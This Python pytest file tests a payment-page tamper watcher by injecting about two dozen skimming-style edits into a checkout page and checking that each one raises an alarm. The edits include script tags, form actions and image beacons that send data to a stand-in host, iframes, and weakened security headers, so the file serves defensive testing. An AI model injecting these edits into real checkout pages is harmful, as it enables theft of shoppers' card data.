"""The watch over the payment page: twenty ways to tamper with it, each one seen, and no alarm without a change."""

from __future__ import annotations

from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from click.testing import Result
from conftest import OpenFunnel, served
from flask import Flask
from werkzeug.test import run_wsgi_app

from app import create_app
from funnel.rooms import Rooms

Edit = tuple[str, str]
EVIL = "http://127.0.0.1:9"  # where nobody answers
CSP = "Content-Security-Policy"


@dataclass
class Tampered:
    """The funnel, as somebody between it and the shopper serves it."""

    app: Flask
    page: Edit | None = None
    script: Edit | None = None
    headers: dict[str, Edit | None] = field(default_factory=dict)  # None: taken away

    def __call__(self, environ: dict[str, object], start: Callable[..., object]) -> Iterable[bytes]:
        answer, status, headers = run_wsgi_app(self.app, environ, buffered=True)
        body = b"".join(answer)
        edit = self.page if environ["PATH_INFO"] == "/checkout" else None
        if str(environ["PATH_INFO"]).endswith(".js"):
            edit = self.script
        if edit and edit[0].encode() in body:
            body = body.replace(edit[0].encode(), edit[1].encode(), 1)
        told = [*(self._edited(headers) if environ["PATH_INFO"] == "/checkout" else headers)]
        kept = [(name, value) for name, value in told if name.lower() != "content-length"]
        start(status, [*kept, ("Content-Length", str(len(body)))])
        return [body]

    def _edited(self, headers: Iterable[tuple[str, str]]) -> Iterator[tuple[str, str]]:
        for name, value in headers:
            edit = self.headers.get(name, ("", ""))
            if edit:
                yield name, value.replace(*edit) if edit[0] else value


@pytest.fixture
def tampered(open_funnel: OpenFunnel) -> Iterator[Tampered]:
    app = create_app(open_funnel(relay=False).settings)
    yield Tampered(app)
    rooms: Rooms = app.extensions["funnel"]
    rooms.store.close()


@pytest.fixture
def watch(tampered: Tampered, tmp_path: Path) -> Iterator[Callable[..., Result]]:
    with served(tampered) as url:
        yield lambda *more: tampered.app.test_cli_runner().invoke(
            args=["funnel", "page-watch", url, "--manifest", str(tmp_path / "approved"), *more]
        )


PAGES = {
    "a script in the page": ("</head>", "<script>steal()</script></head>"),
    "a script of another place": ("</head>", f'<script src="{EVIL}/x.js"></script></head>'),
    "a script without its digest": ('integrity="', 'data-was="'),
    "a form that goes elsewhere": ('method="post" action="/checkout"', f'method="post" action="{EVIL}/"'),
    "a form that puts the card in the address": ('method="post"', 'method="get"'),
    "a button that goes elsewhere": ('value="pay"', f'value="pay" formaction="{EVIL}/"'),
    "a handler on the form": ("<form ", '<form onsubmit="steal()" '),
    "a handler on a heading": ("<h1", '<h1 onclick="steal()"'),
    "a frame over the card form": ("</main>", f'<iframe src="{EVIL}/"></iframe></main>'),
    "a frame with its page in it": ("</main>", '<iframe srcdoc="<p>Card</p>"></iframe></main>'),
    "another base for addresses": ("<head>", f'<head><base href="{EVIL}/">'),
    "a way out after a second": ("</head>", f'<meta http-equiv="refresh" content="1; url={EVIL}"></head>'),
    "a style sheet of another place": ("</head>", f'<link rel="stylesheet" href="{EVIL}/x.css"></head>'),
    "a style that hides": ("</head>", "<style>fieldset { display: none }</style></head>"),
    "a picture that tells": ("</main>", f'<img src="{EVIL}/t.gif" alt=""></main>'),
    "an object": ("</main>", f'<object data="{EVIL}/"></object></main>'),
    "a link that runs": ("</main>", '<a href="javascript:steal()">Help</a></main>'),
    "one more field": ("</form>", '<input name="pin" id="pin"></form>'),
}  # fmt: skip
SERVED = {
    "another script under the same address": {"script": ("const", "/* evil */ const")},
    "no policy": {"headers": {CSP: None}},
    "a weaker policy": {"headers": {CSP: ("script-src", "script-src 'unsafe-inline'")}},
    "a policy that lets forms out": {"headers": {CSP: ("form-action 'self'", f"form-action {EVIL}")}},
    "no nosniff": {"headers": {"X-Content-Type-Options": None}},
    "a page that may be framed": {"headers": {"X-Frame-Options": None}},
}


def test_each_way_to_tamper_is_seen_and_nothing_else_is(tampered: Tampered, watch: Callable[..., Result]) -> None:
    """One funnel for all of them, and a look at the true page between any two."""
    approved = watch("--write")
    assert approved.exit_code == 0, approved.output
    for name, changed in [*((name, {"page": edit}) for name, edit in PAGES.items()), *SERVED.items()]:
        tampered.page, tampered.script, tampered.headers = None, None, {}
        calm = watch()
        assert calm.exit_code == 0, f"before {name}: {calm.output}"
        for part, edit in changed.items():
            setattr(tampered, part, edit)
        alarm = watch()
        assert alarm.exit_code == 1, f"{name}: {alarm.output}"
    assert len(PAGES) + len(SERVED) >= 20
    tampered.page, tampered.script, tampered.headers = None, None, {}
    assert [watch().exit_code for _ in range(26)] == [0] * 26, "fifty calm looks with those before, no false alarm"


def test_what_cannot_be_looked_at_is_no_good_news(
    tampered: Tampered, watch: Callable[..., Result], tmp_path: Path
) -> None:
    assert watch().exit_code == 2, "nothing is approved yet"
    watch("--write")
    signed = (tmp_path / "approved").read_text()
    (tmp_path / "approved").write_text(signed.replace(signed[5], "A" if signed[5] != "A" else "B", 1))
    assert watch().exit_code == 2, "somebody else's manifest"
    (tmp_path / "approved").write_text(signed)
    tampered.page = ('name="cardNumber"', 'name="number"')
    assert watch().exit_code == 2, "a page without a card form is none"
